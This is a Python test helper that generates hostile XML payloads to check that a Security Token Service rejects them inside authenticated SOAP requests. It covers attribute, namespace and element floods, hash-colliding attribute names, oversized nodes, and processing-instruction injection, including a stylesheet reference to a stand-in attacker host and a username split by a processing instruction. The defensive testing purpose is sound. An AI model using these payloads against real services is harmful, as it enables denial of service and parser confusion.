"""Attack documents that must ride inside an otherwise valid, authenticated request (fresh nonce and timestamp).

They cannot be fixture files: each is built around a request made now, so that the attack is the ONLY reason for
the STS to refuse it (a flood in a request that is otherwise valid used to be answered with a token). The pure
XML classics (DTDs, entities, XInclude, depth, bad UTF-8) are files in fixtures/hostile/.
"""

from __future__ import annotations

import itertools
from collections.abc import Callable

HEADER_END = b"</s:Header>"
BODY_START = b"<s:Body>"


def in_header(envelope: bytes, fragment: bytes) -> bytes:
    """``fragment`` as the last SOAP header block (not mustUnderstand: a receiver would otherwise ignore it)."""
    assert envelope.count(HEADER_END) == 1
    return envelope.replace(HEADER_END, fragment + HEADER_END)


def attribute_flood(count: int = 25_000) -> bytes:
    """One element with ``count`` distinct attributes."""
    attributes = b" ".join(b'a%d="1"' % i for i in range(count))
    return b'<x:Flood xmlns:x="urn:attack" ' + attributes + b"/>"


def colliding_attribute_names(count: int = 4096) -> list[bytes]:
    """Names built from the blocks "Aa" and "BB", which collide in Java's String.hashCode and in every hash of
    the same shape (31 * h + c): 2**12 names with one hash value. CXF and WCF readers hash attribute names."""
    blocks = (b"Aa", b"BB")
    width = max(1, (count - 1).bit_length())
    return [b"".join(parts) for parts in itertools.islice(itertools.product(blocks, repeat=width), count)]


def colliding_attributes(count: int = 4096) -> bytes:
    attributes = b" ".join(b'%s="1"' % name for name in colliding_attribute_names(count))
    return b'<x:Flood xmlns:x="urn:attack" ' + attributes + b"/>"


def namespace_flood_one_element(count: int = 2000) -> bytes:
    declarations = b" ".join(b'xmlns:p%d="urn:attack:%d"' % (i, i) for i in range(count))
    return b'<x:Flood xmlns:x="urn:attack" ' + declarations + b"/>"


def namespace_flood_across_elements(elements: int = 40, per_element: int = 40) -> bytes:
    """Each element under any per-element bound; together far past a per-document bound."""
    parts = [b'<x:Flood xmlns:x="urn:attack">']
    for e in range(elements):
        declarations = b" ".join(b'xmlns:p%d="urn:attack:%d:%d"' % (i, e, i) for i in range(per_element))
        parts.append(b"<x:e " + declarations + b"/>")
    parts.append(b"</x:Flood>")
    return b"".join(parts)


def element_flood(count: int = 60_000) -> bytes:
    return b'<x:Flood xmlns:x="urn:attack">' + b"<x:e/>" * count + b"</x:Flood>"


def huge_text(length: int = 400_000) -> bytes:
    return b'<x:Flood xmlns:x="urn:attack">' + b"x" * length + b"</x:Flood>"


def huge_attribute(length: int = 400_000) -> bytes:
    return b'<x:Flood xmlns:x="urn:attack" v="' + b"x" * length + b'"/>'


FLOODS: dict[str, Callable[[], bytes]] = {
    "25000-attributes": attribute_flood,
    "hash-colliding-attribute-names": colliding_attributes,
    "namespaces-on-one-element": namespace_flood_one_element,
    "namespaces-across-elements": namespace_flood_across_elements,
    "60000-elements": element_flood,
    "huge-text-node": huge_text,
    "huge-attribute-value": huge_attribute,
}

STYLESHEET_PI = b'<?xml-stylesheet type="text/xsl" href="http://attacker.example/steal.xsl"?>'


def pi_before_envelope(envelope: bytes) -> bytes:
    return STYLESHEET_PI + envelope


def pi_in_header(envelope: bytes) -> bytes:
    return in_header(envelope, b"<?attacker run?>")


def pi_in_body(envelope: bytes) -> bytes:
    return envelope.replace(BODY_START, BODY_START + b"<?attacker run?>")


def pi_in_username(envelope: bytes, user: str) -> bytes:
    """A PI splitting the user name: a parser that drops PIs reads the name whole, the bytes never said it."""
    name = user.encode()
    needle = b">" + name + b"</wsse:Username>"
    assert needle in envelope and len(name) > 1
    return envelope.replace(needle, b">" + name[:1] + b"<?x?>" + name[1:] + b"</wsse:Username>")
